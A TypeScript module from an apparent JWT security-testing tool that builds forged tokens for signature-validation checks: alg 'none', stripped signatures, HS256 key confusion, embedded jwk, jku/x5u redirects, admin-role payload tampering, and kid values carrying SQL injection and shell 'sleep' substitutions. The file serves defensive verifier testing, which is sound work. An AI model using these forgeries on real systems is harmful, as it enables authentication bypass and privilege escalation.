/**
 * Forgers of the signature cases: each takes the valid token apart and builds what an attacker
 * without the realm's private key could send.
 */
import { type KeyObject, createPublicKey, randomUUID } from 'node:crypto';
import { CompactEncrypt } from 'jose';
import { KcboxError } from '../errors.js';
import { type Forger, bearerAttempt } from './forge-context.js';
import { type JsonObject, compactHs256, compactRs256, encodeJson, withAlgAndKid } from './jws-parts.js';
import { JKU_PATH, X5U_PATH, listenerAddress } from './listener-documents.js';
import type { HostileAttempt } from './types.js';

/** The cases of the catalog's "Signature and algorithm" section. */
export type SignatureCaseId =
  | 'none'
  | 'sig-strip'
  | 'sig-corrupt'
  | 'payload-tamper'
  | 'hs-confusion'
  | 'hs-empty'
  | 'foreign-key'
  | 'unknown-kid'
  | 'jwk-embed'
  | 'jku'
  | 'x5u'
  | 'kid-traversal'
  | 'kid-inject'
  | 'crit-unknown'
  | 'jwe'
  | 'format'
  | 'oversized';

/** jose's UnsecuredJWT writes only "none"; case-insensitive comparisons let the others through. */
export const NONE_SPELLINGS = ['none', 'None', 'NONE', 'nOnE'] as const;

/** kid-traversal's kids: paths to a file whose content (nothing) becomes the HMAC key. */
export const TRAVERSAL_KIDS = ['../../../../../../dev/null', '/dev/null'] as const;

/** The HMAC key the injected kids would make a vulnerable lookup return. */
export const INJECTED_KEY = 'key';

/** kid-inject's kids: SQL that selects {@link INJECTED_KEY}, and shell substitutions that add latency. */
export const INJECTED_KIDS = ["x' UNION SELECT 'key'--", '$(sleep 5)', '| sleep 5', '`sleep 5`'] as const;

/** Roles added to `realm_access` and to every client in `resource_access` by payload-tamper. */
export const ESCALATED_ROLE = 'admin';

/** Total length of the oversized token, characters. */
export const OVERSIZED_LENGTH = 20 * 1024;

/** One forger per signature case. */
export const signatureForgers: Readonly<Record<SignatureCaseId, Forger>> = {
  none: ({ valid }) =>
    NONE_SPELLINGS.flatMap((alg) => {
      const unsigned = `${encodeJson({ ...valid.header, alg })}.${valid.encodedPayload}`;
      return [
        bearerAttempt('none', `alg "${alg}", trailing dot`, `${unsigned}.`),
        bearerAttempt('none', `alg "${alg}", no trailing dot`, unsigned),
      ];
    }),

  'sig-strip': ({ valid }) => [
    bearerAttempt('sig-strip', 'original header and payload, empty signature', `${valid.encodedHeader}.${valid.encodedPayload}.`),
  ],

  'sig-corrupt': ({ valid }) => {
    const signature = Buffer.from(valid.encodedSignature, 'base64url');
    const lastBytes = Buffer.from(signature);
    // Changing the last base64url character alone may only touch padding bits a lenient decoder drops.
    for (let index = Math.max(0, lastBytes.length - 4); index < lastBytes.length; index += 1)
      lastBytes[index] = (lastBytes[index] ?? 0) ^ 0xff;
    const firstByte = Buffer.from(signature);
    firstByte[0] = (firstByte[0] ?? 0) ^ 0x01;
    const token = (bytes: Buffer) => `${valid.encodedHeader}.${valid.encodedPayload}.${bytes.toString('base64url')}`;
    return [
      bearerAttempt('sig-corrupt', 'last 4 signature bytes inverted', token(lastBytes)),
      bearerAttempt('sig-corrupt', 'one bit of the first signature byte flipped', token(firstByte)),
    ];
  },

  'payload-tamper': ({ valid }) => [
    bearerAttempt(
      'payload-tamper',
      `"${ESCALATED_ROLE}" added to realm and client roles and to scope, original signature`,
      `${valid.encodedHeader}.${encodeJson(escalate(valid.payload))}.${valid.encodedSignature}`,
    ),
  ],

  'hs-confusion': ({ valid, material }) => {
    const pem = material.realmPublicKeyPem.trimEnd();
    const header = withAlgAndKid(valid.header, 'HS256', material.realmKid);
    return [
      bearerAttempt('hs-confusion', 'HMAC key = realm PEM with trailing newline', compactHs256(header, valid.encodedPayload, `${pem}\n`)),
      bearerAttempt('hs-confusion', 'HMAC key = realm PEM without trailing newline', compactHs256(header, valid.encodedPayload, pem)),
    ];
  },

  'hs-empty': ({ valid, material }) => [
    bearerAttempt(
      'hs-empty',
      'HS256, empty secret',
      compactHs256(withAlgAndKid(valid.header, 'HS256', material.realmKid), valid.encodedPayload, Buffer.alloc(0)),
    ),
  ],

  'foreign-key': async ({ valid, material, foreignKey }) => {
    const { privateKey } = await foreignKey();
    return [
      bearerAttempt(
        'foreign-key',
        "RS256 by kcbox's key, kid = realm kid",
        compactRs256(withAlgAndKid(valid.header, 'RS256', material.realmKid), valid.encodedPayload, privateKey),
      ),
    ];
  },

  'unknown-kid': async ({ valid, foreignKey }) => {
    const { privateKey } = await foreignKey();
    const kid = `kcbox-unknown-${randomUUID()}`;
    return [
      bearerAttempt(
        'unknown-kid',
        "RS256 by kcbox's key, random kid",
        compactRs256(withAlgAndKid(valid.header, 'RS256', kid), valid.encodedPayload, privateKey),
      ),
    ];
  },

  'jwk-embed': async ({ valid, material, foreignKey }) => {
    const key = await foreignKey();
    const { kty, n, e } = key.publicJwk;
    const embedded = (kid: string) =>
      compactRs256({ ...withAlgAndKid(valid.header, 'RS256', kid), jwk: { kty, n, e, kid } }, valid.encodedPayload, key.privateKey);
    return [
      bearerAttempt('jwk-embed', "jwk with kcbox's kid", embedded(key.kid)),
      bearerAttempt('jwk-embed', 'jwk and header kid = realm kid', embedded(material.realmKid)),
    ];
  },

  jku: async ({ valid, material, foreignKey }) => {
    const key = await foreignKey();
    const header = { ...withAlgAndKid(valid.header, 'RS256', key.kid), jku: listenerAddress(material.listenerUrl, JKU_PATH) };
    return [bearerAttempt('jku', 'jku → listener JWKS, kid of the served key', compactRs256(header, valid.encodedPayload, key.privateKey))];
  },

  x5u: async ({ valid, material, foreignKey }) => {
    const key = await foreignKey();
    const x5u = listenerAddress(material.listenerUrl, X5U_PATH);
    return [
      bearerAttempt(
        'x5u',
        'x5u → listener certificate, no kid',
        compactRs256({ ...withAlgAndKid(valid.header, 'RS256', undefined), x5u }, valid.encodedPayload, key.privateKey),
      ),
      bearerAttempt(
        'x5u',
        'x5u → listener certificate, kid of the served key',
        compactRs256({ ...withAlgAndKid(valid.header, 'RS256', key.kid), x5u }, valid.encodedPayload, key.privateKey),
      ),
    ];
  },

  'kid-traversal': ({ valid }) =>
    TRAVERSAL_KIDS.map((kid) =>
      bearerAttempt(
        'kid-traversal',
        `kid "${kid}", HS256 with an empty key`,
        compactHs256(withAlgAndKid(valid.header, 'HS256', kid), valid.encodedPayload, Buffer.alloc(0)),
      ),
    ),

  'kid-inject': ({ valid }) =>
    INJECTED_KIDS.map((kid) =>
      bearerAttempt(
        'kid-inject',
        `kid "${kid}", HS256 with key "${INJECTED_KEY}"`,
        compactHs256(withAlgAndKid(valid.header, 'HS256', kid), valid.encodedPayload, INJECTED_KEY),
      ),
    ),

  'crit-unknown': async ({ valid, material, realmSigningKey, foreignKey }) => {
    const critical = (kid: string): JsonObject => ({
      ...withAlgAndKid(valid.header, 'RS256', kid),
      crit: ['x-unknown'],
      'x-unknown': true,
    });
    if (realmSigningKey) {
      return [
        bearerAttempt(
          'crit-unknown',
          'crit ["x-unknown"], signed with the realm signing key',
          compactRs256(critical(realmSigningKey.kid), valid.encodedPayload, realmSigningKey.privateKey),
        ),
      ];
    }
    const { privateKey } = await foreignKey();
    return [
      bearerAttempt(
        'crit-unknown',
        'crit ["x-unknown"], signed with kcbox\'s key (no realm signing key)',
        compactRs256(critical(material.realmKid), valid.encodedPayload, privateKey),
        'Without the realm signing key the signature is invalid too, so a refusal does not prove that crit is checked.',
      ),
    ];
  },

  jwe: async ({ valid, material }) => {
    const realmKey = realmPublicKey(material.realmPublicKeyPem);
    const plaintext = Buffer.from(valid.encodedPayload, 'base64url');
    const attempts: HostileAttempt[] = [];
    for (const alg of ['RSA-OAEP', 'RSA-OAEP-256']) {
      const token = await new CompactEncrypt(plaintext)
        .setProtectedHeader({ alg, enc: 'A256GCM', kid: material.realmKid, typ: 'JWT' })
        .encrypt(realmKey);
      attempts.push(bearerAttempt('jwe', `${alg}/A256GCM to the realm key, valid token's claims`, token));
    }
    return attempts;
  },

  format: ({ valid }) => {
    const { encodedHeader: header, encodedPayload: payload, encodedSignature: signature } = valid;
    const padding = '='.repeat((4 - (signature.length % 4)) % 4 || 4);
    let standardAlphabet = signature.replaceAll('-', '+').replaceAll('_', '/');
    if (standardAlphabet === signature) standardAlphabet = `${signature.slice(0, 8)}+/${signature.slice(8)}`;
    const middle = Math.floor(payload.length / 2);
    return [
      bearerAttempt('format', 'JWS JSON serialization (flattened)', JSON.stringify({ protected: header, payload, signature })),
      bearerAttempt('format', 'signature with "=" padding', `${header}.${payload}.${signature}${padding}`),
      bearerAttempt('format', 'signature in the base64 alphabet ("+", "/")', `${header}.${payload}.${standardAlphabet}`),
      bearerAttempt(
        'format',
        '"+" and "/" inserted in the payload',
        `${header}.${payload.slice(0, middle)}+/${payload.slice(middle)}.${signature}`,
      ),
      bearerAttempt('format', '100,000 dots', '.'.repeat(100_000)),
      bearerAttempt('format', '8,000 dots (under common header size limits)', '.'.repeat(8_000)),
      bearerAttempt('format', 'empty token', ''),
      bearerAttempt('format', 'two parts (header.payload)', `${header}.${payload}`),
    ];
  },

  oversized: ({ valid }) => {
    const padded = (length: number) =>
      `${valid.encodedHeader}.${encodeJson({ ...valid.payload, kcbox_padding: 'A'.repeat(length) })}.${valid.encodedSignature}`;
    const base = padded(0).length;
    // Each padding character adds 4/3 base64url characters.
    const token = padded(Math.max(0, Math.ceil(((OVERSIZED_LENGTH - base) * 3) / 4)));
    return [bearerAttempt('oversized', `${Math.round(token.length / 1024)} KB token, payload padded, original signature`, token)];
  },
};

function realmPublicKey(pem: string): KeyObject {
  try {
    return createPublicKey(pem);
  } catch (error) {
    throw new KcboxError(
      'ERR_KCBOX_USAGE',
      'material.realmPublicKeyPem is not a PEM public key. Pass the SPKI PEM that realmPublicKeyPem() returns.',
      { cause: error },
    );
  }
}

/** The payload with admin roles on the realm and on every client it names, and a wider scope. */
function escalate(payload: JsonObject): JsonObject {
  const withRole = (value: unknown): JsonObject => {
    const entry = isObject(value) ? value : {};
    const roles = Array.isArray(entry['roles']) ? entry['roles'] : [];
    return { ...entry, roles: roles.includes(ESCALATED_ROLE) ? roles : [...roles, ESCALATED_ROLE] };
  };
  const resourceAccess = isObject(payload['resource_access']) ? payload['resource_access'] : {};
  const audience = payload['aud'];
  const clients = new Set([
    ...Object.keys(resourceAccess),
    ...(Array.isArray(audience) ? audience : [audience]).filter((client): client is string => typeof client === 'string'),
    ...(typeof payload['azp'] === 'string' ? [payload['azp']] : []),
  ]);
  const scope = typeof payload['scope'] === 'string' ? payload['scope'] : '';
  return {
    ...payload,
    realm_access: withRole(payload['realm_access']),
    resource_access: Object.fromEntries([...clients].map((client) => [client, withRole(resourceAccess[client])])),
    scope: `${scope} ${ESCALATED_ROLE}`.trim(),
  };
}

function isObject(value: unknown): value is JsonObject {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}
